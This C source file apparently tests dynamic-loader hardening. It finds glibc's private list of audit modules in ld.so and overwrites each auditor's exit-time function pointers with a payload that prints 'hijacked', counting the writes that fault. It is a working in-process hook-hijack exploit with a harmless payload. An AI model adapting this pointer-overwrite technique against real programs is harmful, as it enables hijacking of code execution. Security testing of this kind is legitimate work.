/* SPDX-License-Identifier: Apache-2.0 */
/* Exploit: ld.so's list of auditors. For each auditor ld.so keeps a struct of
 * plain function pointers; the first (la_activity) and the last (la_objclose)
 * are called at exit. Whoever can write to one has the next call. Finds the
 * list as one does who can read all memory, and writes to each auditor's entry.
 * An argument says what to do before: "dlopen LIBRARY" or "dlmopen LIBRARY". */
#include "portable.h"

#include <setjmp.h>
#include <signal.h>

#ifdef OLDEST
__asm__(".symver dlvsym, dlvsym@" OLDEST);
#endif

struct auditor {
  void *hooks[8];
  struct auditor *next;
};
struct list {
  struct auditor *first;
  unsigned count;
};

static void payload(void) {
  static const char text[] = "hijacked\n";
  if (write(1, text, sizeof text - 1) < 0)
    _exit(3);
  _exit(1);
}

static sigjmp_buf faulted;
static void on_fault(int number) {
  siglongjmp(faulted, number);
}

static int can_read(const void *address) {
  unsigned char resident;
  uintptr_t page = (uintptr_t)address & ~(uintptr_t)0xfff;
  return ((uintptr_t)address & 7) == 0 &&
         mincore((void *)page, 1, &resident) == 0;
}

static int is_list(const struct list *list) {
  struct auditor *auditor = list->first;
  if (list->count == 0 || list->count > 16)
    return 0;
  for (unsigned i = 0; i < list->count; ++i, auditor = auditor->next) {
    if (!can_read(auditor) || !can_read(&auditor->next))
      return 0;
  }
  return auditor == NULL;
}

static struct list *find_list(void) {
  char *variables = dlvsym(RTLD_DEFAULT, "_rtld_global_ro", "GLIBC_PRIVATE");
  if (variables == NULL)
    return NULL;
  for (int at = 0x500; at >= 0; at -= 8) {
    struct list *list = (struct list *)(variables + at);
    if (can_read(list) && is_list(list))
      return list;
  }
  return NULL;
}

int main(int argc, char **argv) {
  if (argc > 2 && strcmp(argv[1], "dlopen") == 0 &&
      dlopen(argv[2], RTLD_NOW) == NULL)
    return 4;
  if (argc > 2 && strcmp(argv[1], "dlmopen") == 0 &&
      dlmopen(LM_ID_NEWLM, argv[2], RTLD_NOW) == NULL)
    return 4;
  struct list *list = find_list();
  if (list == NULL) {
    puts("no target");
    return 2;
  }
  signal(SIGSEGV, on_fault);
  unsigned held = 0;
  for (struct auditor *auditor = list->first; auditor != NULL;
       auditor = auditor->next) {
    if (sigsetjmp(faulted, 1) == 0)
      auditor->hooks[0] = auditor->hooks[7] = (void *)payload;
    else
      ++held;
  }
  printf("auditors=%u held=%u\n", list->count, held);
  fflush(stdout);
  return 0;
}
